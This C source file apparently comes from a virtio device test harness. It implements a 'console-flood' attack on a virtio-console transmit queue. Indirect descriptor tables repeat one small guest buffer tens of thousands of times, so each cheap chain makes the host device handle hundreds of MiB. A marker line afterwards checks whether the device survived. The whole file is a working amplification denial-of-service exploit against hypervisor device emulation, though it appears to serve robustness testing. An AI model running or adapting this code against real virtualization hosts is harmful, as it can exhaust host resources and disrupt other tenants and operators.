/*
 * console-flood ADDR: virtio-console's transmit queue (queue 1) gets chains that are each
 * one indirect table of `--entries` readable buffers of `--chunk` bytes, all naming the
 * same bytes, so one chain offers hundreds of MiB while the guest spends a few KiB.
 * `--per-kick` chains are posted per doorbell, `--kicks` times. Then a small chain with a
 * marker line shows whether the device still prints what it is given.
 */
#include "attack.h"

static const char probe_text[] = "ringside-console-flood-probe\n";

int attack_console(int argc, char **argv) {
	if (argc < 1) die("usage: console-flood ADDR [--entries N] [--chunk BYTES] [--per-kick N] [--kicks N]");
	u32 entries = option("--entries", 32768), chunk = option("--chunk", 8192);
	u32 per_kick = option("--per-kick", 4), kicks = option("--kicks", 8);
	struct vdev d;
	struct vq q;
	vdev_open(&d, argv[0]);
	vdev_start(&d, (1ull << F_VERSION_1) | (1ull << F_INDIRECT_DESC));
	if (!(d.features >> F_INDIRECT_DESC & 1)) die("no INDIRECT_DESC");
	vq_setup(&d, &q, 1, 16);
	if (per_kick > q.size) per_kick = q.size;
	vq_interrupts(&q, 0);
	vdev_driver_ok(&d);

	u32 buf = region_alloc(chunk, 4096);
	volatile u8 *text = pa_to_va(buf);
	for (u32 i = 0; i < chunk; i++) text[i] = (u8)((i % 64) == 63 ? '\n' : 'A' + i % 26);
	u32 table = indirect_table(entries, buf, chunk, 0);
	kv64("bytes_per_chain", (u64)entries * chunk);

	u32 posted = 0, used = 0;
	u64 used_len = 0;
	for (u32 k = 0; k < kicks; k++) {
		for (u32 s = 0; s < per_kick; s++) {
			desc_set(&q.desc[s], table, entries * 16, D_INDIRECT, 0);
			vq_publish(&q, (u16)s);
		}
		posted += per_kick;
		vq_kick(&q);
		u32 ready = vq_wait(&q, per_kick, 60000);
		for (u32 i = 0; i < ready; i++) used_len += vq_take(&q).len, used++;
		vdev_isr(&d);
		if (ready < per_kick) break; /* the device stopped: the rest would wait for nothing */
	}
	kv("chains_posted", posted);
	kv("chains_used", used);
	kv64("used_len_total", used_len);

	/* The marker, alone in a direct descriptor. */
	u32 probe = region_alloc(sizeof probe_text, 16);
	volatile u8 *p = pa_to_va(probe);
	for (u32 i = 0; i + 1 < sizeof probe_text; i++) p[i] = (u8)probe_text[i];
	desc_set(&q.desc[0], probe, sizeof probe_text - 1, 0, 0);
	vq_publish(&q, 0);
	vq_kick(&q);
	u32 ok = vq_wait(&q, 1, 5000);
	if (ok) vq_take(&q);
	kv("probe_used", ok >= 1);
	vdev_isr(&d);
	vdev_report(&d);
	return 0;
}
